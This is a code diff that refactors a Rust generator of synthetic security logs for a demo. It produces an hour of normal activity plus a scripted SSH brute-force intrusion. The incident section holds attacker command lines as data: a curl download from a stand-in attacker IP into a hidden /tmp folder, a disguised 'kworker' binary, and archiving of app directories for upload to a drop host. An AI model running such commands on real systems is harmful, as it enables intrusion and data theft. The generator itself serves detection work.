@@ -7,8 +7,11 @@
 use larum_event::Timestamp;
 use serde_json::Value;
 
-use super::collectors::{Flow, Login, Planned, Process, Step, in_order, session};
-use super::random::Random;
+use super::collectors::{
+    LoginAttempt, NetworkFlow, PlannedEvent, ProcessStart, WorkflowStep, assign_times,
+    session_event,
+};
+use super::random::SeededRandom;
 
 /// When the story begins: a night in the past, so that no clock takes it for the future.
 const START: &str = "2025-11-20T02:00:00Z";
@@ -48,7 +51,7 @@ const PROGRAMS: [(&str, &str); 8] = [
 const INSIDE: [&str; 4] = ["10.0.0.5", "10.0.0.12", "10.0.3.7", "192.168.7.20"];
 
 /// The story as it is told.
-pub struct Story {
+pub struct DemoStory {
     /// Events in the order of time.
     pub events: Vec<(Timestamp, Value)>,
     /// The correlation id at the root of the incident.
@@ -56,9 +59,9 @@ pub struct Story {
 }
 
 /// The story of a seed.
-pub fn story(seed: u64) -> Story {
-    let mut telling = Telling {
-        random: Random::new(seed),
+pub fn build_story(seed: u64) -> DemoStory {
+    let mut telling = StoryBuilder {
+        random: SeededRandom::new(seed),
         planned: Vec::new(),
         contacts: 0,
         processes: 1_000,
@@ -66,41 +69,41 @@ pub fn story(seed: u64) -> Story {
     };
     let mut at = 0;
     while at < HOUR {
-        telling.day_to_day(at);
-        at += telling.random.between(8 * SECOND, 24 * SECOND);
+        telling.plan_work_session(at);
+        at += telling.random.number_between(8 * SECOND, 24 * SECOND);
     }
     for minute in 0..60 {
-        telling.scheduled_jobs(minute * MINUTE + 30 * SECOND);
+        telling.plan_scheduled_jobs(minute * MINUTE + 30 * SECOND);
     }
-    telling.scanner(11 * MINUTE);
-    let incident = telling.incident(24 * MINUTE);
+    telling.plan_scanner(11 * MINUTE);
+    let incident = telling.plan_incident(24 * MINUTE);
     let start = Timestamp::parse(START).expect("the start is a time");
-    Story {
-        events: in_order(start, telling.planned),
+    DemoStory {
+        events: assign_times(start, telling.planned),
         incident,
     }
 }
 
-struct Telling {
-    random: Random,
-    planned: Vec<Planned>,
+struct StoryBuilder {
+    random: SeededRandom,
+    planned: Vec<PlannedEvent>,
     contacts: u64,
     processes: u64,
     flows: u64,
 }
 
-impl Telling {
+impl StoryBuilder {
     /// Somebody logs in, sometimes at the second try, works for a while and leaves.
-    fn day_to_day(&mut self, begin: u64) {
-        let user = *self.random.pick(&PEOPLE);
-        let host = *self.random.pick(&HOSTS);
+    fn plan_work_session(&mut self, begin: u64) {
+        let user = *self.random.pick_one(&PEOPLE);
+        let host = *self.random.pick_one(&HOSTS);
         let address = format!(
             "10.1.{}.{}",
-            self.random.between(0, 3),
-            self.random.between(2, 250)
+            self.random.number_between(0, 3),
+            self.random.number_between(2, 250)
         );
-        let contact = self.contact();
-        let mut login = Login {
+        let contact = self.next_contact();
+        let mut login = LoginAttempt {
             step: &contact,
             host,
             address: &address,
@@ -112,21 +115,21 @@ impl Telling {
         if self.random.chance(15) {
             login.method = "password";
             login.outcome = "failure";
-            for _ in 0..self.random.between(1, 2) {
-                self.plan(at, login.report());
-                at += self.random.between(2 * SECOND, 9 * SECOND);
+            for _ in 0..self.random.number_between(1, 2) {
+                self.plan_event(at, login.to_event());
+                at += self.random.number_between(2 * SECOND, 9 * SECOND);
             }
             login.outcome = "success";
         }
-        self.plan(at, login.report());
+        self.plan_event(at, login.to_event());
         let opened = self.open_session(&contact, host, user, at + 50);
-        let shell = self.shell(&opened, (host, user), at + 90);
+        let shell = self.start_shell(&opened, (host, user), at + 90);
         at += 90;
-        for _ in 0..self.random.between(3, 9) {
-            at += self.random.between(SECOND, 40 * SECOND);
-            let (image, command) = *self.random.pick(&PROGRAMS);
-            let step = self.process_step(&shell);
-            let process = Process {
+        for _ in 0..self.random.number_between(3, 9) {
+            at += self.random.number_between(SECOND, 40 * SECOND);
+            let (image, command) = *self.random.pick_one(&PROGRAMS);
+            let step = self.next_process(&shell);
+            let process = ProcessStart {
                 step: &step,
                 host,
                 user,
@@ -134,23 +137,23 @@ impl Telling {
                 command,
                 parent_image: "/bin/bash",
             };
-            self.plan(at, process.report());
+            self.plan_event(at, process.to_event());
             if self.random.chance(45) {
-                let address = *self.random.pick(&INSIDE);
-                let (bytes_out, port) = (self.random.between(300, 90_000), 443);
-                self.flow((&step, host), (address, port), bytes_out, at + 700);
+                let address = *self.random.pick_one(&INSIDE);
+                let (bytes_out, port) = (self.random.number_between(300, 90_000), 443);
+                self.plan_flow((&step, host), (address, port), bytes_out, at + 700);
             }
         }
-        let end = at + self.random.between(5 * SECOND, 60 * SECOND);
-        self.plan(end, session(&opened, host, user, false));
+        let end = at + self.random.number_between(5 * SECOND, 60 * SECOND);
+        self.plan_event(end, session_event(&opened, host, user, false));
     }
 
     /// Every minute each host runs its jobs; the database is backed up to a known address.
-    fn scheduled_jobs(&mut self, at: u64) {
+    fn plan_scheduled_jobs(&mut self, at: u64) {
         for host in HOSTS {
-            let job = Step::job(format!("job-{host}-{}", at / MINUTE));
-            let step = self.process_step(&job);
-            let process = Process {
+            let job = WorkflowStep::job(format!("job-{host}-{}", at / MINUTE));
+            let step = self.next_process(&job);
+            let process = ProcessStart {
                 step: &step,
                 host,
                 user: "root",
@@ -158,19 +161,19 @@ impl Telling {
                 command: "logrotate /etc/logrotate.conf",
                 parent_image: "/usr/sbin/cron",
             };
-            let jitter = self.random.between(0, 900);
-            self.plan(at + jitter, process.report());
+            let jitter = self.random.number_between(0, 900);
+            self.plan_event(at + jitter, process.to_event());
             if host == "db-1" && (at / MINUTE).is_multiple_of(15) {
-                self.flow((&step, host), (BACKUP, 22), 80_000_000, at + 20 * SECOND);
+                self.plan_flow((&step, host), (BACKUP, 22), 80_000_000, at + 20 * SECOND);
             }
         }
     }
 
     /// A scanner fails a few times and goes: one alert, and nothing comes of it.
-    fn scanner(&mut self, begin: u64) {
-        let contact = self.contact();
+    fn plan_scanner(&mut self, begin: u64) {
+        let contact = self.next_contact();
         for attempt in 0..7 {
-            let login = Login {
+            let login = LoginAttempt {
                 step: &contact,
                 host: "mail-1",
                 address: SCANNER,
@@ -178,16 +181,16 @@ impl Telling {
                 method: "password",
                 outcome: "failure",
             };
-            let jitter = self.random.between(0, 4 * SECOND);
-            self.plan(begin + attempt * 12 * SECOND + jitter, login.report());
+            let jitter = self.random.number_between(0, 4 * SECOND);
+            self.plan_event(begin + attempt * 12 * SECOND + jitter, login.to_event());
         }
     }
 
     /// The break-in; the answer is its root.
-    fn incident(&mut self, begin: u64) -> String {
-        let contact = self.contact();
+    fn plan_incident(&mut self, begin: u64) -> String {
+        let contact = self.next_contact();
         let user = "deploy";
-        let mut login = Login {
+        let mut login = LoginAttempt {
             step: &contact,
             host: VICTIM,
             address: ATTACKER,
@@ -197,44 +200,49 @@ impl Telling {
         };
         let mut at = begin;
         for _ in 0..48 {
-            login.user = *self.random.pick(&GUESSED);
-            self.plan(at, login.report());
-            at += self.random.between(2 * SECOND, 5 * SECOND);
+            login.user = *self.random.pick_one(&GUESSED);
+            self.plan_event(at, login.to_event());
+            at += self.random.number_between(2 * SECOND, 5 * SECOND);
         }
         login.user = user;
         login.outcome = "success";
-        self.plan(at, login.report());
+        self.plan_event(at, login.to_event());
         let opened = self.open_session(&contact, VICTIM, user, at + 60);
-        let shell = self.shell(&opened, (VICTIM, user), at + 110);
+        let shell = self.start_shell(&opened, (VICTIM, user), at + 110);
 
-        let step = self.process_step(&shell);
+        let step = self.next_process(&shell);
         let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
-        self.run(
+        self.plan_process(
             &step,
             ("/usr/bin/curl", download, "/bin/bash"),
             at + 40 * SECOND,
         );
-        self.flow((&step, VICTIM), (ATTACKER, 80), 420, at + 41 * SECOND);
+        self.plan_flow((&step, VICTIM), (ATTACKER, 80), 420, at + 41 * SECOND);
 
-        let worker = self.process_step(&shell);
+        let worker = self.next_process(&shell);
         let image = "/tmp/.x/kworker";
-        self.run(
+        self.plan_process(
             &worker,
             (image, "/tmp/.x/kworker -q", "/bin/bash"),
             at + 75 * SECOND,
         );
 
-        let step = self.process_step(&worker);
+        let step = self.next_process(&worker);
         let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
-        self.run(&step, ("/bin/tar", pack, image), at + 3 * MINUTE);
-        self.upload(&worker, at + 6 * MINUTE);
-        self.plan(at + 8 * MINUTE, session(&opened, VICTIM, user, false));
+        self.plan_process(&step, ("/bin/tar", pack, image), at + 3 * MINUTE);
+        self.plan_upload(&worker, at + 6 * MINUTE);
+        self.plan_event(at + 8 * MINUTE, session_event(&opened, VICTIM, user, false));
         contact.id
     }
 
     /// A process of the break-in: image, command line and the parent's image.
-    fn run(&mut self, step: &Step, (image, command, parent_image): (&str, &str, &str), at: u64) {
-        let process = Process {
+    fn plan_process(
+        &mut self,
+        step: &WorkflowStep,
+        (image, command, parent_image): (&str, &str, &str),
+        at: u64,
+    ) {
+        let process = ProcessStart {
             step,
             host: VICTIM,
             user: "deploy",
@@ -242,20 +250,31 @@ impl Telling {
             command,
             parent_image,
         };
-        self.plan(at, process.report());
+        self.plan_event(at, process.to_event());
     }
 
-    fn open_session(&mut self, contact: &Step, host: &str, user: &str, at: u64) -> Step {
+    fn open_session(
+        &mut self,
+        contact: &WorkflowStep,
+        host: &str,
+        user: &str,
+        at: u64,
+    ) -> WorkflowStep {
         let number = contact.id.trim_start_matches("contact-");
-        let step = contact.below(format!("session-{number}"), "session");
-        self.plan(at, session(&step, host, user, true));
+        let step = contact.child_step(format!("session-{number}"), "session");
+        self.plan_event(at, session_event(&step, host, user, true));
         step
     }
 
     /// The shell of a session.
-    fn shell(&mut self, opened: &Step, (host, user): (&str, &str), at: u64) -> Step {
-        let step = self.process_step(opened);
-        let process = Process {
+    fn start_shell(
+        &mut self,
+        opened: &WorkflowStep,
+        (host, user): (&str, &str),
+        at: u64,
+    ) -> WorkflowStep {
+        let step = self.next_process(opened);
+        let process = ProcessStart {
             step: &step,
             host,
             user,
@@ -263,54 +282,60 @@ impl Telling {
             command: "-bash",
             parent_image: "/usr/sbin/sshd",
         };
-        self.plan(at, process.report());
+        self.plan_event(at, process.to_event());
         step
     }
 
     /// A connection that a process on a host opened, to an address and port.
-    fn flow(&mut self, (process, host): (&Step, &str), to: (&str, u16), bytes_out: u64, at: u64) {
+    fn plan_flow(
+        &mut self,
+        (process, host): (&WorkflowStep, &str),
+        to: (&str, u16),
+        bytes_out: u64,
+        at: u64,
+    ) {
         self.flows += 1;
-        let step = process.below(format!("flow-{}", self.flows), "network");
-        let flow = Flow {
+        let step = process.child_step(format!("flow-{}", self.flows), "network");
+        let flow = NetworkFlow {
             step: &step,
             host,
             address: to.0,
             port: to.1,
             bytes_out,
-            bytes_in: self.random.between(200, 40_000),
+            bytes_in: self.random.number_between(200, 40_000),
             file: None,
         };
-        self.plan(at, flow.report());
+        self.plan_event(at, flow.to_event());
     }
 
     /// The loot leaves.
-    fn upload(&mut self, process: &Step, at: u64) {
+    fn plan_upload(&mut self, process: &WorkflowStep, at: u64) {
         self.flows += 1;
-        let step = process.below(format!("flow-{}", self.flows), "network");
-        let flow = Flow {
+        let step = process.child_step(format!("flow-{}", self.flows), "network");
+        let flow = NetworkFlow {
             step: &step,
             host: VICTIM,
             address: DROP,
             port: 443,
             bytes_out: 48_731_204,
-            bytes_in: self.random.between(200, 40_000),
+            bytes_in: self.random.number_between(200, 40_000),
             file: Some(LOOT),
         };
-        self.plan(at, flow.report());
+        self.plan_event(at, flow.to_event());
     }
 
-    fn contact(&mut self) -> Step {
+    fn next_contact(&mut self) -> WorkflowStep {
         self.contacts += 1;
-        Step::contact(self.contacts)
+        WorkflowStep::contact(self.contacts)
     }
 
-    fn process_step(&mut self, parent: &Step) -> Step {
+    fn next_process(&mut self, parent: &WorkflowStep) -> WorkflowStep {
         self.processes += 1;
-        parent.below(format!("process-{}", self.processes), "execution")
+        parent.child_step(format!("process-{}", self.processes), "execution")
     }
 
-    fn plan(&mut self, at: u64, event: Value) {
-        self.planned.push(Planned { at, event });
+    fn plan_event(&mut self, at: u64, event: Value) {
+        self.planned.push(PlannedEvent { at, event });
     }
 }
 
@@ -320,16 +345,16 @@ mod tests {
 
     #[test]
     fn a_story_is_an_hour_of_thousands_of_events_in_order_and_its_seed_decides_it() {
-        let told = story(7);
+        let told = build_story(7);
         assert!(told.events.len() > 2_000, "{}", told.events.len());
         assert!(told.events.is_sorted_by_key(|(time, _)| *time));
         let (first, last) = (
             told.events.first().unwrap().0,
             told.events.last().unwrap().0,
         );
-        let minutes = last.since(first).as_nanos() / 60_000_000_000;
+        let minutes = last.duration_since(first).as_nanos() / 60_000_000_000;
         assert!((59..75).contains(&minutes), "{minutes} minutes");
-        assert_eq!(told.events, story(7).events);
-        assert_ne!(told.events, story(8).events);
+        assert_eq!(told.events, build_story(7).events);
+        assert_ne!(told.events, build_story(8).events);
     }
 }
